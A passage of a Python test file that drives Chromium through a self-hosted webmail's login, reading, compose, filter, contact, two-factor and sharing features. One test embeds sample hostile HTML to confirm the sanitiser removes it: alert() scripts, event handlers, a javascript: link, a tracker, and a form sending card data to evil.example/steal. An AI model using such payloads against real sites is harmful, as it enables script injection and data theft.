"""Webmail in a real browser: Playwright driving Debian's Chromium against a live Pillarbox.

Chromium comes from the distribution (``apt-get install -y chromium``), never from
``playwright install``; without ``/usr/bin/chromium`` these tests are skipped with the reason.
A failing test leaves screenshots of its pages in ``test-artifacts/``. Mail arrives over SMTP
(smtplib to the MX listener), as it would from the internet.
"""

from __future__ import annotations

import re
import smtplib
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from pillarbox.store.types import INBOX, Calendar
from pillarbox.testing.live import TEST_PASSWORD, LiveServer, loopback_config
from pillarbox.testing.webclient import deliver, simple_message
from pillarbox.web.session import COOKIE, ENDS_COOKIE, LIVE_FEED_PATH

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts"

if not CHROMIUM.exists():
    pytest.skip(
        "browser tests need Debian's Chromium at /usr/bin/chromium (apt-get install -y chromium)",
        allow_module_level=True,
    )
sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
Page = Any  # playwright's Page; kept loose so the module imports without playwright

ALICE = "alice@example.org"
BOB = "bob@example.org"
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield browser
        browser.close()


@pytest.fixture
def server(tmp_path: Path) -> Iterator[LiveServer]:
    """Web and MX listeners; alice and bob at example.org."""
    with LiveServer(loopback_config(tmp_path / "data", only=["http", "smtp"])) as live:
        live.add_domain("example.org")
        live.add_account(ALICE, TEST_PASSWORD, display_name="Alice")
        live.add_account(BOB, TEST_PASSWORD, display_name="Bob")
        yield live


@pytest.fixture
def new_page(browser: Any, request: pytest.FixtureRequest) -> Iterator[Callable[..., Page]]:
    """Pages in fresh browser contexts (separate cookie jars); screenshots if the test fails."""
    failed_before = request.session.testsfailed
    contexts: list[Any] = []
    pages: list[Page] = []

    def make(**options: Any) -> Page:
        context = browser.new_context(**options)
        context.set_default_timeout(10_000)
        contexts.append(context)
        page = context.new_page()
        pages.append(page)
        return page

    yield make
    if request.session.testsfailed > failed_before:
        ARTIFACTS.mkdir(exist_ok=True)
        name = re.sub(r"[^\w.-]+", "_", request.node.name)
        for number, page in enumerate(pages):
            try:
                page.screenshot(path=str(ARTIFACTS / f"{name}-{number}.png"), full_page=True)
            except Exception as exc:  # a crashed page must not hide the test's own failure
                print(f"screenshot of page {number} failed: {exc}")
    for context in contexts:
        context.close()


def base(server: LiveServer) -> str:
    """The webmail's origin: the https listener when the server runs one."""
    scheme = "https" if "https" in server.server.listeners else "http"
    return f"{scheme}://127.0.0.1:{server.port(scheme)}"


def smtp_deliver(server: LiveServer, raw: bytes, to: str = ALICE) -> None:
    with smtplib.SMTP("127.0.0.1", server.port("smtp"), timeout=10) as smtp:
        smtp.sendmail("carol@example.net", [to], raw)


def message(subject: str, body: str = "Hello Alice.", *, extra: str = "") -> bytes:
    body = body.replace("\n", "\r\n")
    return (
        f"From: Carol <carol@example.net>\r\nTo: Alice <alice@example.org>\r\n"
        f"Subject: {subject}\r\nDate: Mon, 01 Jan 2024 10:00:00 +0000\r\n"
        f"Message-ID: <{abs(hash(subject))}@example.net>\r\n{extra}\r\n{body}\r\n"
    ).encode()


def login(page: Page, server: LiveServer, user: str = ALICE) -> None:
    page.goto(base(server) + "/login")
    page.get_by_label("Email address", exact=True).fill(user)
    page.get_by_label("Password", exact=True).fill(TEST_PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url(re.compile(r"/mail/\d+$"))


def live_feed(response: Any) -> bool:
    """Whether ``response`` (a Playwright one) opens a page's live feed: the server subscribes
    the stream to the change feed as it sends this head, so a change made once the test has
    seen it reaches the page (a fixed wait before the change was a guess)."""
    return urlsplit(response.url).path == LIVE_FEED_PATH and response.status == 200


def inbox_count(server: LiveServer, address: str, name: str = INBOX) -> int:
    async def go() -> int:
        account = await server.store.get_account(address)
        assert account is not None
        box = await server.store.get_mailbox(account.id, name)
        return len(await server.store.list_messages(box.id))

    return server.call(go())


# -- the journeys --------------------------------------------------------------------------------


def test_login_and_read_a_message_sent_by_smtp(server: LiveServer, new_page: Any) -> None:
    smtp_deliver(server, message("Quarterly numbers", "Revenue is up.\nCosts are down."))
    page = new_page()
    page.goto(base(server) + "/mail")
    assert "/login" in page.url  # not logged in yet
    login(page, server)
    row = page.locator("table.messages tbody tr.unread")
    assert row.count() == 1
    assert "Quarterly numbers" in row.inner_text()
    page.get_by_role("link", name="Quarterly numbers").click()
    page.wait_for_url(re.compile(r"/mail/\d+/\d+$"))
    assert page.locator("h1#subject").inner_text() == "Quarterly numbers"
    assert "Revenue is up." in page.locator("pre.body-text").inner_text()
    assert "Carol <carol@example.net>" in page.locator("dl.headers").inner_text()
    page.get_by_role("link", name="← INBOX").click()
    page.wait_for_url(re.compile(r"/mail/\d+$"))  # counted on the list, not the message page
    assert page.locator("table.messages tbody tr").count() == 1
    assert page.locator("table.messages tbody tr.unread").count() == 0  # read now


def test_webmail_over_https(tmp_path: Path, new_page: Any) -> None:
    """The https listener in a browser (self-signed certificate accepted, as a user would): the
    pages, their script and styles load, the session cookie is Secure, reading works."""
    with LiveServer(loopback_config(tmp_path / "data", only=["https", "smtp"])) as live:
        live.add_domain("example.org")
        live.add_account(ALICE, TEST_PASSWORD)
        smtp_deliver(live, message("Sealed", "Delivered over TLS."))
        page = new_page(ignore_https_errors=True)
        login(page, live)
        assert page.url.startswith("https://")
        # The session's cookie, when it ends (for the script's warning, so not HttpOnly), and
        # the time zone app.js leaves for the pages' times.
        cookies = {c["name"]: c for c in page.context.cookies()}
        assert set(cookies) == {COOKIE, ENDS_COOKIE, "tz"}
        assert cookies[COOKIE]["secure"] and cookies[COOKIE]["httpOnly"]
        assert cookies[ENDS_COOKIE]["secure"] and not cookies[ENDS_COOKIE]["httpOnly"]
        page.get_by_role("link", name="Sealed").click()
        page.wait_for_url(re.compile(r"/mail/\d+/\d+$"))
        assert "Delivered over TLS." in page.locator("pre.body-text").inner_text()
        # The script loaded from this origin over TLS: its keyboard shortcut "c" composes.
        page.keyboard.press("c")
        page.wait_for_url(re.compile(r"^https://.*/compose$"))


def test_threaded_list_and_spam_verdict(server: LiveServer, new_page: Any) -> None:
    smtp_deliver(server, message("Plan", extra=""))
    plan_id = f"{abs(hash('Plan'))}@example.net"
    smtp_deliver(server, message("Other"))
    smtp_deliver(
        server,
        message(
            "Re: Plan", "Agreed.", extra=f"In-Reply-To: <{plan_id}>\r\nReferences: <{plan_id}>\r\n"
        ),
    )
    page = new_page()
    login(page, server)
    page.get_by_role("link", name="Threads", exact=True).click()
    page.wait_for_url(re.compile(r"view=threads"))
    rows = page.locator("table.messages tbody tr")
    assert rows.count() == 3
    subjects = [rows.nth(n).locator("td.subject a").inner_text() for n in range(3)]
    depths = [rows.nth(n).get_attribute("data-depth") for n in range(3)]
    assert (subjects, depths) == (["Plan", "Re: Plan", "Other"], ["0", "1", "0"])
    assert page.locator("tr.thread-start").count() == 2
    assert page.locator("tr.thread-start .thread-size").inner_text() == "2"
    page.keyboard.press("j")  # keyboard navigation walks the threaded rows too
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile(r"/mail/\d+/\d+$"))
    assert page.locator("h1#subject").inner_text() == "Re: Plan"
    # Mail through the MX carries the filter's verdict; the view explains it.
    assert page.locator("dd.spam .badge").inner_text() == "score 0.0 · Inbox"
    page.get_by_role("link", name="← INBOX").click()
    assert page.locator("#view-threads").get_attribute("aria-current") is None


HOSTILE_HTML = (
    "<html><head><script>alert('head')</script></head>"
    "<body onload=\"alert('onload')\"><h2>You won</h2>"
    '<img src="http://evil.example/track.png" alt="tracker">'
    "<img src=x onerror=\"alert('onerror')\">"
    "<a href=\"javascript:alert('link')\">claim</a>"
    '<svg><script>alert("svg")</script></svg>'
    '<form action="http://evil.example/steal"><input name="card"><button>Pay</button></form>'
    "<p>end of message</p></body></html>"
)


def test_hostile_html_runs_no_script_and_loads_nothing_remote(
    server: LiveServer, new_page: Any
) -> None:
    smtp_deliver(
        server,
        message(
            "Hostile",
            HOSTILE_HTML,
            extra="MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n",
        ),
    )
    page = new_page()
    dialogs: list[str] = []
    remote: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.context.route(
        re.compile(r"^https?://evil\.example/.*"),
        lambda route: (
            remote.append(route.request.url),
            route.fulfill(body=PNG, content_type="image/png"),
        ),
    )
    login(page, server)
    page.get_by_role("link", name="Hostile").click()
    frame = page.frame_locator("iframe.body-frame")
    frame.get_by_text("end of message").wait_for()
    assert "You won" in frame.locator("body").inner_text()
    assert frame.locator("script, form, iframe, [onload], [onerror]").count() == 0
    assert frame.locator("a", has_text="claim").get_attribute("href") is None
    frame.locator("a", has_text="claim").click()
    page.wait_for_timeout(300)
    assert dialogs == []
    assert remote == []
    notice = page.locator("#blocked-images")
    assert "1 remote image blocked" in notice.inner_text()
    notice.get_by_role("link", name="Load images").click()
    page.frame_locator("iframe.body-frame").get_by_text("end of message").wait_for()
    page.wait_for_timeout(300)
    assert remote == ["http://evil.example/track.png"]  # only after the reader asked
    assert dialogs == []


def test_compose_with_attachment_to_a_local_user(
    server: LiveServer, new_page: Any, tmp_path: Path
) -> None:
    attachment = tmp_path / "minutes.txt"
    attachment.write_text("1. Budget approved.\n")
    page = new_page()
    login(page, server)
    page.keyboard.press("c")  # keyboard shortcut: compose
    page.wait_for_url(re.compile(r"/compose$"))
    page.get_by_label("To", exact=True).fill("Bob <bob@example.org>")
    page.get_by_label("Subject", exact=True).fill("Minutes")
    page.get_by_label("Message", exact=True).fill("Attached are the minutes.")
    page.get_by_label(re.compile("^Attachments")).set_input_files(str(attachment))
    page.get_by_role("button", name="Send").click()
    # Back where Compose was pressed (the Inbox), as Roundcube and Gmail return.
    page.wait_for_url(re.compile(r"/mail/\d+\?sent=1$"))
    assert "Message sent." in page.locator("#sent-notice").inner_text()
    assert page.locator("#list-title").inner_text() == "INBOX"
    page.locator("#folders").get_by_role("link", name="Sent").click()
    assert "Minutes" in page.locator("table.messages").inner_text()  # the copy in Sent

    bob = new_page()
    login(bob, server, BOB)
    bob.get_by_role("link", name="Minutes").click()
    assert "Attached are the minutes." in bob.locator("pre.body-text").inner_text()
    with bob.expect_download() as download_info:
        bob.get_by_role("link", name="minutes.txt").click()
    download = download_info.value
    assert Path(download.path()).read_text() == "1. Budget approved.\n"


def test_rich_text_compose_reaches_the_recipient(server: LiveServer, new_page: Any) -> None:
    page = new_page()
    login(page, server)
    page.goto(base(server) + "/compose")
    page.get_by_label("To", exact=True).fill("bob@example.org")
    page.get_by_label("Subject", exact=True).fill("Formatted")
    page.get_by_role("checkbox", name=re.compile("Rich text")).check()
    editor = page.get_by_role("textbox", name="Message (rich text)")
    assert page.get_by_label("Message", exact=True).is_hidden()
    editor.click()
    page.keyboard.type("Plain then ")
    bar = page.get_by_role("toolbar", name="Formatting")
    bar.get_by_role("button", name="Bold").click()
    page.keyboard.type("bold")
    bar.get_by_role("button", name="Bold").click()
    page.keyboard.press("Enter")
    bar.get_by_role("button", name="Bulleted list").click()
    page.keyboard.type("first item")
    page.once("dialog", lambda dialog: dialog.accept("https://example.net/docs"))
    bar.get_by_role("button", name="Link", exact=True).click()
    page.get_by_role("button", name="Send").click()
    page.wait_for_url(re.compile(r"sent=1"))

    bob = new_page()
    login(bob, server, BOB)
    bob.get_by_role("link", name="Formatted").click()
    frame = bob.frame_locator("iframe.body-frame")
    assert frame.locator("b").inner_text() == "bold"
    assert frame.locator("ul li").inner_text() == "first itemhttps://example.net/docs"
    link = frame.locator("a")
    assert link.get_attribute("href") == "https://example.net/docs"
    assert "Plain then" in frame.locator("body").inner_text()

    # A rich-text reply: the quote becomes a blockquote, threading headers stay.
    bob.keyboard.press("r")
    bob.wait_for_url(re.compile(r"/compose\?reply="))
    bob.get_by_role("checkbox", name=re.compile("Rich text")).check()
    reply = bob.get_by_role("textbox", name="Message (rich text)")
    assert "Plain then *bold*" in reply.locator("blockquote").inner_text()
    reply.click()
    bob.keyboard.press("Control+Home")
    bob.keyboard.type("Thanks, ")
    bob.keyboard.press("Control+i")
    bob.keyboard.type("noted")
    bob.get_by_role("button", name="Send").click()
    bob.wait_for_url(re.compile(r"sent=1"))
    page.goto(base(server) + "/mail")
    page.get_by_role("link", name="Re: Formatted").click()
    answer = page.frame_locator("iframe.body-frame")
    assert answer.locator("i").inner_text() == "noted"
    assert "Plain then *bold*" in answer.locator("blockquote").inner_text()
    raw = page.request.get(page.url + "/source").text()
    assert "In-Reply-To: <" in raw and "multipart/alternative" in raw
    assert "> Plain then *bold*" in raw  # the text/plain part quotes too


def test_invalid_address_is_shown_inline_and_text_is_kept(
    server: LiveServer, new_page: Any
) -> None:
    page = new_page()
    login(page, server)
    page.goto(base(server) + "/compose")
    page.get_by_label("To", exact=True).fill("bob@example.org, not-an-address")
    page.get_by_label("Message", exact=True).fill("Precious words.")
    page.get_by_role("button", name="Send").click()
    error = page.locator("#e-to")
    sync_api.expect(error).to_contain_text("not a valid address: not-an-address")
    assert page.get_by_label("To", exact=True).get_attribute("aria-invalid") == "true"
    assert page.get_by_label("Message", exact=True).input_value() == "Precious words."


def test_reply_from_the_keyboard(server: LiveServer, new_page: Any) -> None:
    smtp_deliver(
        server,
        b"From: Bob <bob@example.org>\r\nTo: alice@example.org\r\nSubject: Dinner\r\n"
        b"Message-ID: <dinner@example.org>\r\n\r\nAre you free tonight?\r\n",
    )
    page = new_page()
    login(page, server)
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile(r"/mail/\d+/\d+$"))
    page.keyboard.press("r")
    page.wait_for_url(re.compile(r"/compose\?reply="))
    assert page.get_by_label("Subject", exact=True).input_value() == "Re: Dinner"
    body = page.get_by_label("Message", exact=True)
    assert "> Are you free tonight?" in body.input_value()
    body.press("Control+Home")
    body.type("Yes!")
    page.get_by_role("button", name="Send").click()
    page.wait_for_url(re.compile(r"sent=1"))

    bob = new_page()
    login(bob, server, BOB)
    bob.get_by_role("link", name="Re: Dinner").click()
    assert bob.locator("pre.body-text").inner_text().startswith("Yes!")
    bob.get_by_role("link", name="View source").wait_for()
    raw = bob.request.get(bob.url + "/source").text()
    assert "In-Reply-To: <dinner@example.org>" in raw


def test_move_to_junk_and_back(server: LiveServer, new_page: Any) -> None:
    smtp_deliver(server, message("Cheap pills"))
    smtp_deliver(server, message("Team lunch"))
    page = new_page()
    login(page, server)
    # Each row's box is named after its message (not one "Select message" for every row).
    page.get_by_role("checkbox", name="Select Cheap pills", exact=True).check()
    page.locator("#list-form").get_by_role("button", name="Spam").click()
    # expect() retries until the page after the form's POST shows it (a plain count could
    # read the page before it).
    expect = sync_api.expect
    expect(page.locator("table.messages").get_by_text("Cheap pills")).to_have_count(0)
    expect(page.locator("table.messages").get_by_text("Team lunch")).to_have_count(1)
    expect(page.locator("#action-done")).to_have_text("1 message moved to Junk.")
    page.locator("#folders").get_by_role("link", name=re.compile("^Junk")).click()
    expect(page.locator("h1#list-title")).to_contain_text("Junk")
    expect(page.locator("table.messages")).to_contain_text("Cheap pills")
    assert inbox_count(server, ALICE, "Junk") == 1
    page.locator("tr", has_text="Cheap pills").get_by_role("checkbox").check()
    page.locator("#list-form").get_by_role("button", name="Not spam").click()
    expect(page.locator("table.messages").get_by_text("Cheap pills")).to_have_count(0)
    assert inbox_count(server, ALICE, "Junk") == 0 and inbox_count(server, ALICE) == 2


def test_select_all_with_script_and_none_without(server: LiveServer, new_page: Any) -> None:
    for subject in ("One", "Two", "Three"):
        smtp_deliver(server, message(subject))
    page = new_page()
    login(page, server)
    page.get_by_role("checkbox", name="Select all").check()
    page.locator("#list-form").get_by_role("button", name="Mark read").click()
    sync_api.expect(page.locator("#action-done")).to_have_text("3 messages marked read.")
    assert page.locator("table.messages tr.unread").count() == 0
    # Without JavaScript a "Select all" box would do nothing: it is not shown.
    plain = new_page(java_script_enabled=False)
    login(plain, server)
    assert plain.locator("table.messages tbody tr[data-href]").count() == 3
    assert not plain.locator("#select-all").is_visible()


def test_search(server: LiveServer, new_page: Any) -> None:
    smtp_deliver(server, message("Holiday plans", "We could go to Lisbon in May."))
    smtp_deliver(server, message("Invoice 42", "Please pay by Friday."))
    page = new_page()
    login(page, server)
    page.keyboard.press("/")
    page.keyboard.type("Lisbon")
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile(r"q=Lisbon"))
    table = page.locator("table.messages").inner_text()
    assert "Holiday plans" in table and "Invoice 42" not in table
    assert page.locator("h1#list-title").inner_text().endswith("search")


def test_new_mail_appears_without_reload(server: LiveServer, new_page: Any) -> None:
    page = new_page()
    with page.expect_response(live_feed):
        login(page, server)
    page.evaluate("window.__sameDocument = true")
    assert page.locator("table.messages tbody tr[data-href]").count() == 0
    smtp_deliver(server, message("Breaking news"))
    page.locator("table.messages").get_by_text("Breaking news").wait_for(timeout=10_000)
    assert page.evaluate("window.__sameDocument") is True  # no navigation happened
    assert page.locator("#folders .count").first.inner_text() == "1"
    assert page.title().startswith("(1)")


def test_expired_session_keeps_the_draft(server: LiveServer, new_page: Any) -> None:
    page = new_page()
    login(page, server)
    page.goto(base(server) + "/compose")
    page.get_by_label("To", exact=True).fill("bob@example.org")
    page.get_by_label("Subject", exact=True).fill("Long letter")
    page.get_by_label("Message", exact=True).fill("Three paragraphs of careful prose.")
    page.context.clear_cookies()  # the session expires while the person writes
    page.get_by_role("button", name="Send").click()
    # The login page answers the form itself, holding the message; the login keeps it in
    # Drafts and opens it there.
    assert "Log in again" in page.locator("p.notice").inner_text()
    page.get_by_label("Email address", exact=True).fill(ALICE)
    page.get_by_label("Password", exact=True).fill(TEST_PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url(re.compile(r"/compose\?draft="))
    written = page.get_by_label("Message", exact=True).input_value()
    assert written.rstrip("\n") == "Three paragraphs of careful prose."
    assert page.get_by_label("Subject", exact=True).input_value() == "Long letter"
    page.get_by_role("button", name="Send").click()
    page.wait_for_url(re.compile(r"sent=1"))
    assert inbox_count(server, BOB) == 1


def test_usable_at_phone_width(server: LiveServer, new_page: Any) -> None:
    for n in range(3):
        smtp_deliver(server, message(f"A rather long subject line number {n} for a small screen"))
    deliver(server, ALICE, simple_message("Last year"))  # dated 2024: its date has a year
    page = new_page(viewport={"width": 375, "height": 740})
    login(page, server)
    overflow = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
    assert overflow <= 1
    # Dates are shown whole, "01 Jan 2024" too (it was cut to "01 Ja…").
    dates = page.locator("table.messages tbody td.date")
    assert dates.evaluate_all("cells => cells.every(c => c.scrollWidth <= c.clientWidth)")
    # The subject is shown whole (on more lines), not cut to its first words.
    subject = page.locator("table.messages tbody td.subject").first
    assert subject.evaluate("cell => cell.scrollWidth <= cell.clientWidth")
    # Making a folder works on a phone too.
    page.locator("#folders").get_by_text("New folder").click()
    page.get_by_label("Name (use / for subfolders)").fill("Receipts")
    page.get_by_role("button", name="Create").click()
    sync_api.expect(page.locator("h1#list-title")).to_have_text("Receipts")
    page.locator("#folders").get_by_role("link", name="INBOX").click()
    page.wait_for_url(re.compile(r"/mail/\d+$"))
    page.locator("table.messages tbody tr td.subject a").first.click()
    # The click starts a navigation; measuring before the message page has loaded reads a
    # document that is being replaced (documentElement null), as CI once did.
    page.wait_for_url(re.compile(r"/mail/\d+/\d+$"))
    overflow = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
    assert overflow <= 1
    assert page.get_by_role("link", name="Reply", exact=True).is_visible()
    # Pages with wide tables: the table scrolls, not the page.
    inbox = page.url.split("/")[-2]
    page.get_by_role("button", name="Add to contacts carol@example.net").click()
    page.wait_for_url(re.compile(r"/contacts/\d+"))
    for path in ("/contacts", f"/mail/{inbox}/sharing"):
        page.goto(base(server) + path)
        overflow = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
        assert overflow <= 1, path


def test_a_filter_made_in_the_browser_files_mail_from_the_boss(
    server: LiveServer, new_page: Any
) -> None:
    """Settings → Filters → a rule "From contains boss → move to Work + flag"; then mail over
    SMTP from the boss lands in Work, flagged, and other mail stays in the Inbox."""

    async def work_folder() -> None:
        account = await server.store.get_account(ALICE)
        assert account is not None
        await server.store.create_mailbox(account.id, "Work")

    server.call(work_folder())
    expect = sync_api.expect
    page = new_page()
    login(page, server)
    page.get_by_role("link", name="Settings").click()
    page.wait_for_url(re.compile(r"/settings$"))
    page.get_by_role("link", name="Manage filters").click()
    page.wait_for_url(re.compile(r"/settings/filters$"))
    page.get_by_role("link", name="New rule").click()
    page.wait_for_url(re.compile(r"/settings/filters/rule$"))
    page.get_by_label("Rule name").fill("Boss")
    page.locator("#c0_field").select_option("from")
    page.locator("#c0_match").select_option("contains")
    page.locator("#c0_value").fill("boss")
    page.locator("#a0_kind").select_option("move")
    page.locator("#a0_folder").select_option("Work")
    page.locator("#a1_kind").select_option("flag")
    page.get_by_role("button", name="Save rule").click()
    page.wait_for_url(re.compile(r"/settings/filters\?saved=1$"))
    expect(page.locator("table.rules")).to_contain_text(
        "From contains “boss” → Move to folder Work, Flag"
    )

    boss = message("Quarterly review").replace(
        b"From: Carol <carol@example.net>", b"From: The Boss <boss@example.net>"
    )
    smtp_deliver(server, boss)
    smtp_deliver(server, message("Lunch?"))
    assert inbox_count(server, ALICE, "Work") == 1 and inbox_count(server, ALICE) == 1

    page.goto(base(server) + "/mail")
    page.wait_for_url(re.compile(r"/mail/\d+$"))
    expect(page.locator("table.messages")).to_contain_text("Lunch?")
    page.locator("#folders").get_by_role("link", name=re.compile("^Work")).click()
    expect(page.locator("h1#list-title")).to_contain_text("Work")
    row = page.locator("table.messages tr", has_text="Quarterly review")
    expect(row).to_have_class(re.compile(r"\bflagged\b"))
    expect(page.locator("table.messages")).not_to_contain_text("Lunch?")


def test_identity_with_signature_is_chosen_swapped_and_sent(
    server: LiveServer, new_page: Any
) -> None:
    expect = sync_api.expect
    page = new_page()
    login(page, server)
    page.goto(base(server) + "/settings")
    new = page.get_by_role("form", name="New identity")
    new.get_by_label("Address").fill("alice+work@example.org")
    new.get_by_label("Name").fill("Alice at Work")
    new.get_by_label("Signature (plain text)").fill("Alice\nWork Inc.")
    new.get_by_role("button", name="Add identity").click()
    page.wait_for_url(re.compile(r"saved=identities"))
    own = page.get_by_role("form", name=f"Identity {ALICE}")
    own.get_by_label("Signature (plain text)").fill("Alice (home)")
    own.get_by_label("Default for new messages").check()
    own.get_by_role("button", name="Save").click()
    page.wait_for_url(re.compile(r"saved=identities"))

    page.goto(base(server) + "/compose")
    sender = page.get_by_label("From", exact=True)
    body = page.get_by_label("Message", exact=True)
    expect(sender.locator("option:checked")).to_have_text(f"Alice <{ALICE}>")
    expect(body).to_have_value("\n\n-- \nAlice (home)\n")
    sender.select_option(label="Alice at Work <alice+work@example.org>")
    expect(body).to_have_value("\n\n-- \nAlice\nWork Inc.\n")  # swapped, not added
    body.press("Control+Home")
    body.type("Hello Bob.")
    # Back and forth: the block is still as inserted, so it follows the choice each time.
    sender.select_option(label=f"Alice <{ALICE}>")
    expect(body).to_have_value("Hello Bob.\n\n-- \nAlice (home)\n")
    sender.select_option(label="Alice at Work <alice+work@example.org>")
    expect(body).to_have_value("Hello Bob.\n\n-- \nAlice\nWork Inc.\n")
    page.get_by_label("To", exact=True).fill(BOB)
    page.get_by_label("Subject", exact=True).fill("From work")
    page.get_by_role("button", name="Send").click()
    page.wait_for_url(re.compile(r"sent=1"))

    async def received() -> bytes:
        account = await server.store.get_account(BOB)
        assert account is not None
        box = await server.store.get_mailbox(account.id, INBOX)
        [record] = await server.store.list_messages(box.id)
        return await server.store.read_blob(record.blob_id)

    raw = server.call(received())
    assert b"From: Alice at Work <alice+work@example.org>\r\n" in raw
    assert b"\r\n\r\nHello Bob.\r\n\r\n-- \r\nAlice\r\nWork Inc.\r\n" in raw

    # An edited signature is the writer's own: switching leaves it alone.
    page.goto(base(server) + "/compose")
    expect(body).to_have_value("\n\n-- \nAlice (home)\n")
    body.press("Control+End")
    body.type("Call me.")
    sender.select_option(label="Alice at Work <alice+work@example.org>")
    expect(sender.locator("option:checked")).to_have_text("Alice at Work <alice+work@example.org>")
    expect(body).to_have_value("\n\n-- \nAlice (home)\nCall me.")


def test_recipient_completion_suggests_a_previous_correspondent(
    server: LiveServer, new_page: Any
) -> None:
    expect = sync_api.expect
    page = new_page()
    login(page, server)
    page.goto(base(server) + "/compose")
    page.get_by_label("To", exact=True).fill("Bob <bob@example.org>")
    page.get_by_label("Subject", exact=True).fill("First")
    page.get_by_role("button", name="Send").click()
    page.wait_for_url(re.compile(r"sent=1"))

    page.goto(base(server) + "/compose")
    to = page.get_by_role("combobox", name="To")
    to.fill("carol@example.net, BO")
    suggestions = page.get_by_role("listbox", name="Suggested addresses")
    expect(suggestions.get_by_role("option")).to_have_text([BOB])
    expect(to).to_have_attribute("aria-expanded", "true")
    to.press("ArrowDown")
    expect(suggestions.get_by_role("option", name=BOB)).to_have_attribute("aria-selected", "true")
    to.press("Enter")  # takes the suggestion; does not send
    expect(to).to_have_value(f"carol@example.net, {BOB}, ")
    expect(suggestions).to_be_hidden()
    assert "/compose" in page.url
    to.press_sequentially("zz")
    expect(to).to_have_attribute("aria-expanded", "false")  # nobody starts with "zz"


def test_a_contact_added_in_the_browser_is_completed_in_compose(
    server: LiveServer, new_page: Any
) -> None:
    expect = sync_api.expect
    page = new_page()
    login(page, server)
    page.get_by_role("link", name="Contacts").click()
    page.wait_for_url(re.compile(r"/contacts$"))
    form = page.locator("#contact-form")
    form.get_by_label("Name", exact=True).fill("Dana Scully")
    form.get_by_label("Email addresses (one a line)").fill("dana@fbi.example")
    form.get_by_label("Organisation").fill("FBI, X-Files")
    form.get_by_role("button", name="Add contact").click()
    page.wait_for_url(re.compile(r"/contacts/\d+\?done=saved$"))
    expect(page.get_by_role("status")).to_have_text("Contact saved.")
    expect(page.locator("#contact-list tbody tr")).to_have_count(1)
    expect(page.locator("#contact-list")).to_contain_text("FBI, X-Files")

    page.goto(base(server) + "/compose")
    to = page.get_by_role("combobox", name="To")
    to.press_sequentially("scul")  # part of the name: only a contact can match it
    suggestions = page.get_by_role("listbox", name="Suggested addresses")
    expect(suggestions.get_by_role("option")).to_have_text(["Dana Scully <dana@fbi.example>"])
    to.press("ArrowDown")
    to.press("Enter")
    expect(to).to_have_value("Dana Scully <dana@fbi.example>, ")
    expect(suggestions).to_be_hidden()


def test_two_factor_enrolment_and_login(server: LiveServer, new_page: Any) -> None:
    """Set up two-factor login from the settings (the QR code renders under the page's CSP),
    then log in from another browser with a code computed from the key the page showed."""
    from pillarbox.auth import totp

    page = new_page()
    login(page, server)
    page.goto(base(server) + "/settings#2fa")
    page.get_by_role("button", name="Set up two-factor login").click()
    secret = page.locator("#totp-secret")
    sync_api.expect(secret).to_be_visible()
    key = totp.decode_secret(secret.inner_text())
    assert key is not None
    qr = page.locator("#totp-qr")
    sync_api.expect(qr).to_be_visible()
    assert qr.evaluate("img => img.complete && img.naturalWidth > 0")  # decoded, not blocked
    page.locator("#totp-password").fill(TEST_PASSWORD)
    page.get_by_label("Code the app shows now").fill(totp.totp(key, time.time()))
    page.get_by_role("button", name="Turn on").click()
    sync_api.expect(page.locator("#recovery-codes li")).to_have_count(10)
    sync_api.expect(page.locator("#totp-state")).to_contain_text("10 recovery codes left")

    other = new_page()
    other.goto(base(server) + "/login")
    other.get_by_label("Email address", exact=True).fill(ALICE)
    other.get_by_label("Password", exact=True).fill(TEST_PASSWORD)
    other.get_by_role("button", name="Log in").click()
    other.wait_for_url(re.compile(r"/login/code"))
    other.get_by_label("Code", exact=True).fill("12345x")
    other.get_by_role("button", name="Log in").click()
    sync_api.expect(other.get_by_role("alert")).to_contain_text("Wrong or already used code")
    # The next step's code: later than the one the set-up used, inside the ±1 window.
    other.get_by_label("Code", exact=True).fill(totp.totp(key, time.time() + totp.STEP_SECONDS))
    other.get_by_role("button", name="Log in").click()
    other.wait_for_url(re.compile(r"/mail/\d+$"))
    sync_api.expect(other.locator("table.messages")).to_be_visible()


def test_sharing_a_folder_from_the_browser(server: LiveServer, new_page: Any) -> None:
    """Alice creates "Support" and shares it with Bob read-only on its sharing page; Bob finds
    it under "Shared with me" (new mail there appears without a reload), reads the message and
    is offered neither Delete nor Flag; Alice
    makes him read/write and he flags it; she stops sharing and it is gone from his list."""
    expect = sync_api.expect
    alice, bob = new_page(), new_page()
    login(alice, server)
    alice.locator("summary", has_text="New folder").click()
    alice.get_by_label("Name (use / for subfolders)").fill("Support")
    alice.get_by_role("button", name="Create").click()
    expect(alice.locator("h1#list-title")).to_have_text("Support")
    box, uid = deliver(server, ALICE, message("Printer on fire", "Please help."), "Support")
    alice.get_by_role("link", name="Sharing").click()
    # A mistake is shown beside the form, with what was typed kept.
    alice.get_by_label("Address of an account on this server").fill("nobody@example.org")
    alice.get_by_role("button", name="Share").click()
    expect(alice.get_by_role("alert")).to_have_text(
        "there is no account nobody@example.org on this server"
    )
    expect(alice.get_by_label("Address of an account on this server")).to_have_value(
        "nobody@example.org"
    )
    alice.get_by_label("Address of an account on this server").fill(BOB)
